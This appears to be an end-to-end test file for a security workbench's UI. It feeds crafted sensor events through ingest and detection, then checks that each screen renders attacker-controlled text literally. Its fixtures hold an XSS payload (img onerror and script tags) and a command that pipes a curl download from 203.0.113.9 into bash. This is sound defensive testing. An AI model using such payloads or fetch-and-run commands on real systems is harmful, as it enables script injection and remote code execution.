// Event text is the attacker's: a compromised host chooses its command lines, paths, user and tty names,
// container ids and what it reports as its OS and kernel. Here every such field of a host's events carries
// HTML and script, the events go through the real ingest and detection, and each screen that shows them
// (events and their detail, the signals explorer, the signal page with its process tree, the inbox, the
// overview, the hosts) must show the text literally and run none of it.
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importSensorStream } from '../src-main/ingest/index.ts';
import type { CaseStore } from '../src-main/store/index.ts';
import { screenshotPath, startSession, type Session } from './harness.ts';

const payload = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script><b id=pwned>bold</b>';
/** A part of the payload that every screen showing it must show as text. */
const visible = '<script>window.__pwned=2</script>';

let session: Session;
let store: CaseStore;
let hostId: number;
const dialogs: string[] = [];

function hostileStream(tsNs: number): string {
  const parent = {
    pid: 4001, ppid: 1, uid: 33, user: `www${payload}`, comm: `<b>kw</b>`, file: { path: `/opt/${payload}/agent`, name: 'agent' },
    argv: [payload], argv0: `agent${payload}`, args: payload, cwd: `/srv/${payload}`, tty_name: payload, created_at: tsNs - 5e9,
    container: { id: `c0ffee${payload}` },
  };
  const args = `-c curl -s http://203.0.113.9/${payload}.sh | bash`;
  const shell = { ...parent, pid: 4002, ppid: 4001, comm: 'sh', file: { path: '/usr/bin/dash', name: 'dash' }, argv: ['-c', args.slice(3)], argv0: 'sh', args, created_at: tsNs - 1000 };
  return [
    { type: 'hello', sensor: { version: '0.1.0' }, host: 'build-07', boot_id: 'e2e-hostile-text' },
    { seq: 1, ts: tsNs - 5e9, type: 'exec', process: parent, exec: { file: parent.file, argv: parent.argv, argv0: parent.argv0, args: parent.args } },
    { seq: 2, ts: tsNs, type: 'exec', process: shell, exec: { file: shell.file, argv: shell.argv, argv0: 'sh', args } },
    { seq: 3, ts: tsNs + 1e6, type: 'open', process: shell, open: { file: { path: `/tmp/${payload}` }, flags: 577, mode: 420, retval: 3 } },
  ]
    .map((line) => JSON.stringify(line))
    .join('\n');
}

/** Nothing of the payload ran or became markup, and (unless `shown` is false) it is on screen as text. */
async function expectLiteral(page: Page, where: string, shown = true): Promise<void> {
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned), `${where}: a script ran`).toBeUndefined();
  expect(await page.locator('#pwned, img[src="x"]').count(), `${where}: the payload became markup`).toBe(0);
  if (shown) await page.getByText(visible).first().waitFor({ timeout: 10_000 });
  expect(dialogs, `${where}: a dialog opened`).toEqual([]);
  expect(session.problems.filter((p) => !p.includes('favicon')), `${where}: console problems`).toEqual([]);
}

async function go(page: Page, hash: string): Promise<void> {
  await page.goto(`${session.host.url.split('#')[0]}${hash}`);
}

beforeAll(async () => {
  session = await startSession();
  store = session.workbench.requireCase();
  hostId = store.addHost({ name: 'build-07', os: `Debian ${payload}`, kernel: `6.1${payload}`, address: '10.0.2.30' }, 0);
  const newest = store.eventFacets().newestNs!;
  const result = importSensorStream(store, hostId, 'build-07', 'hostile.ndjson', hostileStream(newest + 60e9), { detect: session.workbench.detection().forHost(hostId) });
  expect(result.added).toBe(3);
  // the first load carries the host's token; later addresses keep it in the page
  await session.page.goto(session.host.url);
  await session.page.getByTestId('status-case').getByText('Demo: web shell on web-01').waitFor();
  session.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
});

afterAll(async () => {
  await session?.close();
});

describe('attacker-controlled text', () => {
  it('raised a signal on the hostile host, so every screen has something to show', () => {
    const signals = store.listSignals({ hostIds: [hostId], limit: 100 });
    expect(signals.map((s) => s.rule.id)).toContain('download_piped_to_shell');
  });

  it('is shown literally in the events list and in an event’s detail', async () => {
    const { page } = session;
    await go(page, '#/events');
    await page.getByTestId('page-events').waitFor();
    await expectLiteral(page, 'events list');
    await page.getByText(visible).first().click();
    await expectLiteral(page, 'event detail');
    await page.screenshot({ path: screenshotPath('hostile-text-events') });
  });

  it('is shown literally in the signals explorer and on the signal page with its process tree', async () => {
    const { page } = session;
    const signal = store.listSignals({ hostIds: [hostId], ruleId: 'download_piped_to_shell', limit: 1 })[0]!;
    await go(page, `#/signals?host=${hostId}`);
    await page.getByTestId('page-signals').waitFor();
    await page.getByTestId('signals-table').locator('tbody tr.vt-data').first().waitFor();
    await expectLiteral(page, 'signals explorer', false);
    await go(page, `#/signals/${signal.id}`);
    await page.locator('[data-testid=process-graph][data-ready]').waitFor({ timeout: 20_000 });
    await expectLiteral(page, 'signal page');
    await page.screenshot({ path: screenshotPath('hostile-text-signal'), fullPage: true });
  });

  it('is shown literally in the inbox, on the overview and on the hosts page', async () => {
    const { page } = session;
    for (const [hash, testId, shown] of [
      ['#/inbox', 'page-inbox', true],
      ['#/overview', 'page-overview', false],
      ['#/hosts', 'page-hosts', true],
    ] as const) {
      await go(page, hash);
      await page.getByTestId(testId).waitFor();
      await page.waitForLoadState('networkidle');
      await expectLiteral(page, hash, shown);
    }
    await page.screenshot({ path: screenshotPath('hostile-text-hosts') });
  });
});
